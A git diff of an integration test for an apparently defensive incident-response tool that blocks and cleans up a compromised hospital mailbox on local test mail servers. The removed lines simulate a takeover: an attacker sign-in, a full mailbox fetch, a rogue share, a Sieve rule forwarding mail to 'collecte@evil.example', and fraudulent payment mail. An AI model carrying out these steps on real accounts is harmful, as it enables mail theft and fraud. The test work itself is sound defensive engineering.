@@ -3,10 +3,11 @@
 //
 //   node tests/integration/contain_test.mjs build/release/digue
 import { spawnSync } from 'node:child_process';
-import { readFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 
+import { attackedMail, attacker, password, people, sieve, victim } from './attack.mjs';
 import { MailServers } from './mail_servers.mjs';
 import { Workbench, close, expect, program, root, same, skip, test } from './workbench.mjs';
 
@@ -15,66 +16,18 @@ if (MailServers.skipped) {
   await close();
 }
 
-const victim = 'marie@chu.test';
-const password = 'Printemps2026';
-const attacker = '198.51.100.23';
-const people = { [victim]: password, 'paul@chu.test': 'paul-pw', 'direction@chu.test': 'd-pw', 'quarantine@chu.test': 'q-pw' };
-const helper = new URL('../../packaging/host/digue-mail-host', import.meta.url).pathname;
-const mail = await MailServers.start(people);
-const sieve = `require ["copy"];\r\n# filtre\r\nredirect :copy "collecte@evil.example";\r\n`;
-
-/** Two weeks of ordinary days from the hospital, as this server writes them. */
-function history() {
-  const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
-  let text = '';
-  let n = 0;
-  for (let day = 15; day >= 1; day -= 1)
-    for (const [name] of Object.entries(people))
-      for (const hour of [8, 11, 15]) {
-        const at = new Date(Date.now() - day * 86_400_000);
-        at.setHours(hour, 10 + (n % 40), n % 60);
-        const two = (value) => String(value).padStart(2, '0');
-        text += `${months[at.getMonth()]} ${String(at.getDate()).padStart(2, ' ')} ${two(at.getHours())}:${two(at.getMinutes())}:${two(at.getSeconds())} mx1 dovecot: imap-login: Info: Login: user=<${name}>, method=PLAIN, rip=192.0.2.${10 + (name.length % 5)}, lip=127.0.0.1, mpid=${1000 + n}, TLS, session=<h${n}AAA>\n`;
-        n += 1;
-      }
-  return text;
-}
-
-let stolen; // the attacker's IMAP session, open all along
-await test('the attack: foreign sign-ins, a redirect, a share, fraudulent mail sent and removed', async () => {
-  const local = await mail.signIn(victim, password, '192.0.2.12');
-  expect(local, 'the owner signs in');
-  local.close();
-  await mail.receive('faux-support@evil.example', victim, 'Votre messagerie expire', 'hook@evil.example');
-  stolen = await mail.signIn(victim, password, attacker);
-  expect(stolen, 'the attacker signs in');
-  await stolen.imap('SELECT INBOX');
-  await stolen.imap('FETCH 1:* (BODY.PEEK[])');
-  await stolen.imap('SETACL INBOX paul@chu.test lrwstipekxa');
-  const filters = await mail.sieve(victim, password);
-  filters.send(`PUTSCRIPT "a" {${Buffer.byteLength(sieve)}+}\r\n${sieve}\r\n`);
-  await filters.read(/^(OK|NO).*\r\n/m);
-  filters.send('SETACTIVE "a"\r\n');
-  await filters.read(/^(OK|NO).*\r\n/m);
-  filters.close();
-  same(await mail.submit(victim, password, attacker, victim, ['paul@chu.test', 'direction@chu.test'], 'RIB', 'Nouveau compte'), 250, 'fraud inside');
-  for (let i = 0; i < 3; i += 1) same(await mail.submit(victim, password, attacker, victim, [`client${i}@partner.example`], 'RIB'), 250, 'fraud outside');
-  await mail.receive('labo@partner.example', victim, 'Résultat', 'result@partner.example');
-  await sleep(500);
-  expect(mail.log('dovecot.log').includes('collecte@evil.example'), 'the redirect works');
-  mail.before('dovecot.log', history());
-});
+const { mail, stolen } = await attackedMail();
 
 let bench = await Workbench.start(join(root, 'contain'));
 await bench.signIn();
 const incident = await bench.newIncident();
 const at = `/incidents/${incident.id}`;
-await bench.call('POST', `${at}/accounts`, { account: victim, reason: 'signalée' }, 201);
+await bench.call('POST', `${at}/accounts`, { account: victim, reason: 'signalée' });
 
 await test('platforms are set up, secrets apart; a test says what would be automatic', async () => {
-  await bench.call('PUT', '/connectors/imap', { kind: 'dovecot', settings: { ...mail.settings('dovecot', helper), api_key: 'test-api-key' } }, 422);
-  await bench.call('PUT', '/connectors/imap', { kind: 'dovecot', settings: mail.settings('dovecot', helper), secrets: { api_key: 'test-api-key' } });
-  await bench.call('PUT', '/connectors/smtp', { kind: 'postfix', settings: mail.settings('postfix', helper) });
+  await bench.call('PUT', '/connectors/imap', { kind: 'dovecot', settings: { ...mail.settings('dovecot'), api_key: 'test-api-key' } }, 422);
+  await bench.call('PUT', '/connectors/imap', { kind: 'dovecot', settings: mail.settings('dovecot'), secrets: { api_key: 'test-api-key' } });
+  await bench.call('PUT', '/connectors/smtp', { kind: 'postfix', settings: mail.settings('postfix') });
   await bench.call('PUT', '/connectors/x', { kind: 'exchange', settings: {} }, 422);
   const all = await bench.call('GET', '/connectors');
   same(all.map((one) => [one.name, one.secrets]), [['imap', ['api_key']], ['smtp', []]], 'platforms');
@@ -87,6 +40,8 @@ await test('platforms are set up, secrets apart; a test says what would be autom
   }
 });
 
+const tasks = await bench.call('GET', `${at}/tasks`);
+const taskOf = (action) => tasks.find((one) => one.action === action && one.target === victim).id;
 const order = (platform, capability, more = {}) => ({ platform, capability, account: victim, parameters: {}, reason: 'compte compromis', evidence: [], ...more });
 const until = async (id, wanted) => {
   for (let i = 0; i < 600; i += 1) {
@@ -120,7 +75,7 @@ await test('evidence is collected without a manual export, and tells the story',
     await sleep(100);
   }
   const story = await bench.call('GET', `${at}/story`);
-  const account = (story.story ?? story).accounts.find((one) => one.account === victim);
+  const account = story.analysis.accounts.find((one) => one.account === victim);
   expect(['compromised', 'suspected'].includes(account?.verdict), JSON.stringify(account));
 });
 
@@ -135,11 +90,12 @@ await test('the story proposes, with its evidence and the platforms that can', a
 });
 
 let block;
+let secret;
 await test('a dry run and a plan change nothing', async () => {
   const before = readFileSync(mail.file('users/passwd'));
   const tried = await bench.call('POST', `${at}/operations/dry-run`, order('imap', 'account.block'));
   expect(tried.steps.length > 2, 'steps');
-  block = await plan('imap', 'account.block');
+  block = await plan('imap', 'account.block', { task: taskOf('1.a') });
   expect(block.plan.care.length + block.plan.mail.length > 0, 'effects are said');
   same(readFileSync(mail.file('users/passwd')), before, 'password file');
   expect((await stolen.imap('NOOP')).includes('a OK'), 'the attacker is still in');
@@ -166,7 +122,7 @@ await test('the account is blocked: sessions end, every protocol refuses, mail s
 await test('password, sessions, rule and share are dealt with and proven', async () => {
   const reset = await carry('imap', 'password.reset');
   same(await mail.signIn(victim, password, '192.0.2.12'), null, 'the old password');
-  const secret = (await bench.call('POST', `${at}/operations/${reset.id}/password`, {})).password;
+  secret = (await bench.call('POST', `${at}/operations/${reset.id}/password`, {})).password;
   same(await mail.signIn(victim, secret, '192.0.2.12'), null, 'still blocked');
   await bench.call('POST', `${at}/operations/${reset.id}/password`, {}, 404);
   await carry('imap', 'session.revoke');
@@ -176,7 +132,6 @@ await test('password, sessions, rule and share are dealt with and proven', async
   expect(!mail.log('dovecot.log').split('result3@')[1].includes('collecte@evil'), 'nothing is redirected any more');
   await carry('imap', 'delegation.remove', { parameters: { identifier: 'user=paul@chu.test' } });
   console.log(`     from the story to the last verified P0 operation: ${((Date.now() - told) / 1000).toFixed(1)} s`);
-  people.secret = secret;
 });
 
 await test('queued fraud is held, a sender is blocked until a date, and both are undone', async () => {
@@ -204,13 +159,13 @@ await test('undo restores the script byte for byte; unblocking leaves the new pa
   const find = (platform, capability) => all.find((one) => one.platform === platform && one.plan.capability === capability && !one.undoes);
   for (const one of [find('imap', 'rule.disable'), find('smtp', 'account.block'), find('imap', 'account.block')]) {
     const undo = await bench.call('POST', `${at}/operations/${one.id}/undo`, { reason: 'doute levé' }, 201);
-    if (one.plan.capability === 'account.block') expect(undo.plan.notes.some((note) => note.fr.includes('1.c')), 'what the card wants first is said');
+    if (one.task) expect(undo.plan.notes.some((note) => note.fr.includes('1.c')), 'what the card wants first is said');
     await approve(undo);
     await until(undo.id, ['verified']);
   }
-  same(mail.doveadm('sieve', 'get', '-u', victim, 'a').stdout, sieve.replaceAll('\r\n', '\n'), 'script');
+  same(mail.doveadm('sieve', 'get', '-u', victim, 'a').stdout, `sieve script:\n${sieve}`, 'script');
   same(await mail.signIn(victim, password, attacker), null, 'the stolen password');
-  const owner = await mail.signIn(victim, people.secret, '192.0.2.12');
+  const owner = await mail.signIn(victim, secret, '192.0.2.12');
   expect(owner, 'the new password');
   owner.close();
 });
@@ -240,7 +195,6 @@ await test('two at once, a state that changed, a server that is away: said, and 
   await bench.call('POST', `${at}/operations/${(await plan('imap', 'password.reset', { account: 'direction@chu.test' })).id}/approval`, {}, 409);
   const passwd = mail.file('users/passwd');
   const changed = readFileSync(passwd, 'utf8').replace('{PLAIN}d-pw', '{PLAIN}d-pw2');
-  const { writeFileSync } = await import('node:fs');
   writeFileSync(passwd, changed);
   await approve(one);
   for (let i = 0; i < 100 && (await bench.call('GET', `${at}/operations/${one.id}`)).state !== 'failed'; i += 1) await sleep(100);
@@ -248,9 +202,9 @@ await test('two at once, a state that changed, a server that is away: said, and 
   same(failed.state, 'failed', 'stale');
   same(readFileSync(passwd, 'utf8'), changed, 'password file');
   await bench.call('POST', `${at}/operations`, order('imap', 'account.block', { account: 'nobody@chu.test' }), 404);
-  await bench.call('PUT', '/connectors/away', { kind: 'dovecot', settings: { ...mail.settings('dovecot', helper), url: `http://127.0.0.1:${mail.ports.closed}/doveadm/v1` }, secrets: { api_key: 'x' } });
+  await bench.call('PUT', '/connectors/away', { kind: 'dovecot', settings: { ...mail.settings('dovecot'), url: `http://127.0.0.1:${mail.ports.closed}/doveadm/v1` }, secrets: { api_key: 'x' } });
   const away = await bench.request('POST', `/api/v1${at}/operations`, { body: JSON.stringify(order('away', 'account.block')), headers: { 'Content-Type': 'application/json' } });
-  expect(away.status >= 500, `${away.status} ${away.text}`);
+  same([away.status, away.json.error.code], [502, 'platform'], away.text);
 });
 
 await test('the terminal does the same; the main courante and the package verify', async () => {
@@ -263,7 +217,7 @@ await test('the terminal does the same; the main courante and the package verify
   const lines = (await bench.journal(incident.id)).map((one) => one.about);
   for (const about of ['operation.planned', 'operation.approved', 'operation.sealed', 'operation.step', 'operation.verified', 'operation.undone', 'operation.failed'])
     expect(lines.includes(about), about);
-  expect(!JSON.stringify(await bench.journal(incident.id)).includes(people.secret), 'no password in the main courante');
+  expect(!JSON.stringify(await bench.journal(incident.id)).includes(secret), 'no password in the main courante');
 });
 
 await mail.stop();
